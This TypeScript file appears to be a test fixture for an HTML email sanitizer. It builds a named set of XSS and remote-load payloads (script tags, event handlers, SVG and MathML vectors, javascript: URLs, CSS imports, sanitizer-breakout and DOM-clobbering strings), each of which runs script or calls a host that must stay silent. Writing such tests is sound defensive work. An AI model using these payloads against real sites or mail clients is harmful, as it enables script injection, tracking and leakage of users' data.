// Tricks by which a letter in HTML tries to run, to fetch or to lead somewhere: each by
// name, `at` is a server that must never hear of it. Add a line for a trick that is not here.

export function tricksAt(at: string): Readonly<Record<string, string>> {
  const run = `document.title='run';top.document.title='run';fetch('${at}/run')`;
  return {
    script: `<script>${run}</script><script src="${at}/s.js"></script><script type="module" src="${at}/m.js"></script>`,
    handlers: `<img src="x" onerror="${run}"><body onload="${run}"><details open ontoggle="${run}"><marquee onstart="${run}">a</marquee>`,
    svg: `<svg onload="${run}"><script>${run}</script><image href="${at}/i"/><use href="${at}/u#a"/><animate attributeName="href" values="javascript:${run}"/></svg>`,
    'svg in an address': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${at}/svg'/></svg>">`,
    mathml: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction><mtext><table><mglyph><style><img src=${at}/math></style></mglyph></table></mtext></math>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${at}/refresh"><META HTTP-EQUIV=Refresh CONTENT="0; URL=javascript:${run}">`,
    'meta policy': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    base: `<base href="${at}/base/" target="_top"><img src="relative.gif">`,
    form: `<form action="${at}/form" method="post"><input autofocus onfocus="${run}" name="a"><button formaction="${at}/f2">Go</button></form><form id=f action="${at}/f3"></form><button form=f>Go</button>`,
    styles: `<style>@import url(${at}/import.css);@import "${at}/import2.css";@font-face{font-family:a;src:url(${at}/font)}body{background:url(${at}/bg);font-family:a;cursor:url(${at}/cursor),auto}p::before{content:url(${at}/before)}</style><p>a</p>`,
    'style attribute': `<p style="background-image:url(${at}/attr);list-style:url('${at}/list');width:expression(${run});behavior:url(${at}/htc);-moz-binding:url(${at}/xbl)">a</p>`,
    'style sheet': `<link rel="stylesheet" href="${at}/sheet.css"><style media="all">@import '\\2f\\2f${at.replace('http://', '')}/esc'</style>`,
    embedded: `<object data="${at}/object"><embed src="${at}/embed"></object><applet code="a" codebase="${at}/applet"></applet>`,
    frames: `<iframe src="${at}/iframe"></iframe><iframe srcdoc="<script>${run}</script><img src=${at}/srcdoc>"></iframe><iframe src="javascript:${run}"></iframe><frameset onload="${run}"><frame src="${at}/frame"></frameset>`,
    hints: `<link rel="prefetch" href="${at}/prefetch"><link rel="preload" as="image" href="${at}/preload"><link rel="dns-prefetch" href="//hint.example"><link rel="preconnect" href="${at}"><link rel="modulepreload" href="${at}/mp"><link rel="prerender" href="${at}/pr"><link rel="icon" href="${at}/icon"><link rel="manifest" href="${at}/manifest">`,
    pictures: `<img src="${at}/img"><img srcset="${at}/1x 1x, ${at}/2x 2x"><picture><source srcset="${at}/source"><img src="${at}/pic"></picture><input type="image" src="${at}/input"><table background="${at}/table"><tr><td background="${at}/td">a</td></tr></table><body background="${at}/body">`,
    media: `<video src="${at}/video" poster="${at}/poster" autoplay></video><audio src="${at}/audio" autoplay></audio><video><source src="${at}/vs"><track src="${at}/track"></video>`,
    addresses: `<a id="js" href="javascript:${run}">javascript</a><a id="data" href="data:text/html,<script>${run}</script>">data</a><a id="vb" href="vbscript:a">vb</a>`,
    leading: `<a id="top" target="_top" href="${at}/top">top</a><a id="blank" target="_blank" href="${at}/blank">blank</a><a id="self" href="${at}/self" ping="${at}/ping">self</a><a id="parent" target="_parent" href="${at}/parent">parent</a><a id="load" download href="${at}/download">load</a><a id="own" href="app://dialpost/">own</a><a id="mail" href="mailto:a@b.example">mail</a><map name="m"><area shape="rect" coords="0,0,9,9" href="${at}/area"></map>`,
    animation: `<style>@keyframes a{from{background:url(${at}/k1)}to{background:url(${at}/k2)}}</style><div style="animation:a 1s infinite" onanimationstart="${run}">a</div>`,
    'a way out': `--></style></script></title></textarea></noscript></template></iframe><script>${run}</script><img src=${at}/out>`,
    noscript: `<noscript><p title="</noscript><img src=${at}/ns onerror=${run}>">a</noscript>`,
    template: `<template shadowrootmode="open"><img src="${at}/shadow"><script>${run}</script></template>`,
    comment: `<!--[if IE]><script>${run}</script><![endif]--><![CDATA[<img src=${at}/cdata>]]><!--><img src=${at}/c>-->`,
    clobber: `<img name="body"><form name="document"></form><a id="dialpost" href="${at}/clobber">a</a>`,
    import: `<link rel="import" href="${at}/html"><script type="importmap">{"imports":{"a":"${at}/map"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${at}/spec"]}]}</script>`,
    plugins: `<isindex action="${at}/isindex"><bgsound src="${at}/bg"><portal src="${at}/portal"></portal><fencedframe src="${at}/ff"></fencedframe><webview src="${at}/wv"></webview><plaintext>`,
  };
}
